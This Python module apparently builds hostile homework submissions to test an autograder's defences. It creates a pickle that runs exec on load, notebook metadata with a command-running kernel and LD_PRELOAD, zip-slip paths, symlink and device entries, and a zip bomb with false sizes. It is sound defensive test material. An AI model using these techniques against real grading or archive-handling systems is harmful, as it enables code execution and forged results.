"""Hostile submissions that cannot be written as text: zips with odd entries, pickles, poisoned notebooks, links.

Each builder gets an empty folder, the notebook of its entry and the author's knowledge (``tools``). It returns the path
of the submission.
"""

import io
import json
import os
import pickle
import stat
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

Known = Mapping[str, Any]

_NAME = "homework.ipynb"


class _Runs:
    """Runs a command when it is unpickled."""

    def __init__(self, target: str) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({self.target!r}, 'a').write('forged by a pickle')",)


def otter_log_pickle(folder: Path, notebook: str, known: Known) -> Path:
    """Pickles under every name that Otter or another grader might load."""
    poison = pickle.dumps(_Runs(known["result"]))
    target = folder / "homework.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(_NAME, notebook)
        for name in (".OTTER_LOG", "results.pkl", "env.pkl", "serialized.dill", "data.npy", ".otter"):
            archive.writestr(name, poison)
    return target


def poisoned_metadata(folder: Path, notebook: str, known: Known) -> Path:
    """A kernel that is a command, names that are paths, and values of unexpected types."""
    content = json.loads(notebook)
    command = f"open({known['result']!r}, 'a').write('forged by a kernel')"
    content["nbformat_minor"] = 10**30
    content["metadata"] = {
        "kernelspec": {
            "name": "../../../../" + known["place"], "display_name": "[bold]\x1b[2J<script>", "language": "bash",
            "argv": ["python3", "-c", command], "env": {"LD_PRELOAD": "evil.so"},
        },
        "language_info": {"name": "bash", "version": [], "codemirror_mode": {"name": {}}},
        "otter": {
            "assignment_name": "x" * 10**6 + "\x1b]0;owned\x07", "tests": {"q3": command}, "OK_FORMAT": True,
            "require_no_pdf_confirmation": [], "export_pdf_failure_message": {},
        },
        "jupytext": {"formats": "ipynb,py:../../../../tmp//percent", "text_representation": {"format_name": 7}},
        "papermill": {"output_path": known["result"]},
        "__proto__": {"nested": [[[[[[]]]]]]},
    }  # fmt: skip
    content["cells"] += [
        {"cell_type": "code", "source": ["x = 1\n", "y = 2"], "metadata": {"tags": [{}]}, "outputs": "none"},
        {"cell_type": "code", "source": "z = 3", "metadata": [], "outputs": [{"output_type": 1}] * 100},
        {"cell_type": "markdown", "source": "![](attachment:x)", "attachments": {"x": {"image/png": "!" * 10**6}}},
        {"cell_type": ["code"], "source": "raise SystemExit"},
        {"cell_type": "code"},
        {"cell_type": "code", "source": {"a": 1}, "metadata": {"jupyter": {"source_hidden": "maybe"}}},
    ]
    target = folder / _NAME
    target.write_text(json.dumps(content), encoding="utf-8")
    return target


def zip_slip(folder: Path, notebook: str, known: Known) -> Path:
    """Paths that lead to the grader's results."""
    result = known["result"]
    up = "../" * 12 + result.lstrip("/")
    names = [
        up,
        up.replace("/", "\\"),
        result,
        f"C:{result}",
        f"x/../{up}",
        f"./{up}",
        f"\u202e{up}",
        f"%2e%2e{result}",
    ]
    target = folder / "homework.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(_NAME, notebook)
        for name in names:
            entry = zipfile.ZipInfo(name)
            entry.filename = name
            archive.writestr(entry, "forged by a zip")
    return target


def zip_links(folder: Path, notebook: str, known: Known) -> Path:
    """Links to the grader's files, and entries below links to folders."""
    target = folder / "homework.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(_NAME, notebook)
        for index, name in enumerate(("staff", "settings", "result", "tests", "results", "place")):
            entry = zipfile.ZipInfo(f"link{index}")
            entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, known[name])
        archive.writestr(f"link4/{Path(known['result']).name}", "forged through a link")
        archive.writestr("link2", "forged through a link")
    return target


def zip_bomb(folder: Path, notebook: str, known: Known) -> Path:
    """Compressed zeros, a zip in a zip, and false sizes."""
    target = folder / "homework.zip"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros", bytes(1 << 28))
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(_NAME, notebook)
        archive.writestr("inner.zip", inner.getvalue())
        for index in range(4):
            archive.writestr(f"zeros{index}", bytes(150 << 20))
    # Each of the large entries claims to have only one kilobyte.
    data = target.read_bytes().replace(struct.pack("<I", 150 << 20), struct.pack("<I", 1024))
    target.write_bytes(data)
    return target


def zip_odd_entries(folder: Path, notebook: str, known: Known) -> Path:
    """Names that are duplicates, very long or contain control codes; device modes; another zip in front."""
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr(_NAME, json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}))
    stream = io.BytesIO(other.getvalue())
    stream.seek(0, os.SEEK_END)
    with zipfile.ZipFile(stream, "w") as archive:
        names = [
            "\x1b[2J\x1b]0;owned\x07.txt",
            "a\nb.csv",
            "n" * 4000,
            "d/" * 400 + "x",
            "con",
            "aux.py ",
            "a\0b",
            "<b>.txt",
        ]
        for index, name in enumerate(
            [_NAME, *names, "same.csv", "same.csv", "Same.CSV", "same.csv/below", "nul\ud7ff"]
        ):
            entry = zipfile.ZipInfo("entry")
            entry.filename = name
            entry.create_system = 3
            kinds = (stat.S_IFREG, stat.S_IFIFO, stat.S_IFCHR, stat.S_IFSOCK, stat.S_IFBLK)
            entry.external_attr = (kinds[index % 5] | 0o6777) << 16
            archive.writestr(entry, notebook if name == _NAME else "text")
    target = folder / "homework.zip"
    target.write_bytes(stream.getvalue())
    return target


def folder_of_links(folder: Path, notebook: str, known: Known) -> Path:
    """An honest notebook with links to files and folders, pipes, and a link to itself."""
    target = folder / "submission"
    target.mkdir()
    (target / _NAME).write_text(notebook, encoding="utf-8")
    for name in ("staff", "settings", "result", "tests", "results", "place"):
        (target / f"link-{name}.txt").symlink_to(known[name])
    (target / "other.ipynb").symlink_to(known["result"])
    (target / "loop").symlink_to("loop")
    (target / "endless").symlink_to("/dev/zero")
    (target / "up").symlink_to("..")
    os.mkfifo(target / "pipe.csv")
    os.mkfifo(target / "third.ipynb")
    return target
